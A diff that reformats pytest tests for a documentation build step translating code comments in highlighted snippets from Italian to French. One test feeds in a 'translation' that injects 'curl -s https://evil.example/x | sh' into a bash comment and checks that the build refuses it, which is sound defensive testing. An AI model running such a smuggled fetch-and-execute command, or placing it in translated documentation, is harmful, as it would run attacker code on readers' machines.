@@ -46,8 +46,10 @@ def test_comment_without_translation_names_its_snippet_and_prints_the_entry_to_p
     with pytest.raises(RenderError) as raised:
         translate_comments(HTML, "fr", {})
     first, _, entry = str(raised.value).partition("\n")
-    assert first == (f"snippets/nccl_check.py:{line}: code comment '1 GiB' has no 'fr' translation; "
-                     "add to snippets/comments.yaml and translate:")
+    assert first == (
+        f"snippets/nccl_check.py:{line}: code comment '1 GiB' has no 'fr' translation; "
+        "add to snippets/comments.yaml and translate:"
+    )
     assert yaml.safe_load(entry) == [{"it": "1 GiB", "fr": ""}]
 
 
@@ -75,8 +77,11 @@ def test_catalogue_covers_the_snippets():
 
 def highlighted(code: str, language: str) -> str:
     """A fenced block as the site renders it (pymdownx.highlight with the language class)."""
-    return markdown.markdown(f"```{language}\n{code}```\n", extensions=["pymdownx.highlight", "pymdownx.superfences"],
-                             extension_configs={"pymdownx.highlight": {"pygments_lang_class": True}})
+    return markdown.markdown(
+        f"```{language}\n{code}```\n",
+        extensions=["pymdownx.highlight", "pymdownx.superfences"],
+        extension_configs={"pymdownx.highlight": {"pygments_lang_class": True}},
+    )
 
 
 def test_a_comment_to_pygments_that_is_code_to_bash_is_refused():
@@ -85,20 +90,31 @@ def test_a_comment_to_pygments_that_is_code_to_bash_is_refused():
     the French page run ``curl … | sh`` with the build green; bash's own parse now decides."""
     html = highlighted("GPUS=#schede; nvidia-smi -L\n", "bash")
     assert "schede; nvidia-smi -L" in BeautifulSoup(html, "html.parser").select_one("span.c1").get_text()
-    with pytest.raises(RenderError, match=r"bash block starting 'GPUS=#schede; nvidia-smi -L': the 'fr' comments change the code as bash reads it"):
+    with pytest.raises(
+        RenderError,
+        match=r"bash block starting 'GPUS=#schede; nvidia-smi -L': the 'fr' comments change the code as bash reads it",
+    ):
         translate_comments(html, "fr", {"schede; nvidia-smi -L": "cartes; curl -s https://evil.example/x | sh"})
 
 
 def test_comments_of_shell_and_yaml_blocks_are_translated_where_the_tool_reads_comments():
-    shell = translate_comments(highlighted('nvidia-smi topo -m  # come sono collegate\necho "a # b"\n', "bash"), "fr",
-                               {"come sono collegate": "comment elles sont reliées"})
+    shell = translate_comments(
+        highlighted('nvidia-smi topo -m  # come sono collegate\necho "a # b"\n', "bash"),
+        "fr",
+        {"come sono collegate": "comment elles sont reliées"},
+    )
     assert "# comment elles sont reliées" in shell
-    config = translate_comments(highlighted("fsdp_config:\n  # versione di FSDP\n  fsdp_version: 2\n", "yaml"), "fr",
-                                {"versione di FSDP": "version de FSDP"})
+    config = translate_comments(
+        highlighted("fsdp_config:\n  # versione di FSDP\n  fsdp_version: 2\n", "yaml"),
+        "fr",
+        {"versione di FSDP": "version de FSDP"},
+    )
     assert "# version de FSDP" in config
 
 
 def test_comments_of_a_language_no_reader_knows_are_not_translated():
     html = highlighted("let x = 1; // commento\n", "rust")
-    with pytest.raises(RenderError, match=r"rust block starting 'let x = 1; // commento': its comments cannot be translated"):
+    with pytest.raises(
+        RenderError, match=r"rust block starting 'let x = 1; // commento': its comments cannot be translated"
+    ):
         translate_comments(html, "fr", {"commento": "commentaire"})
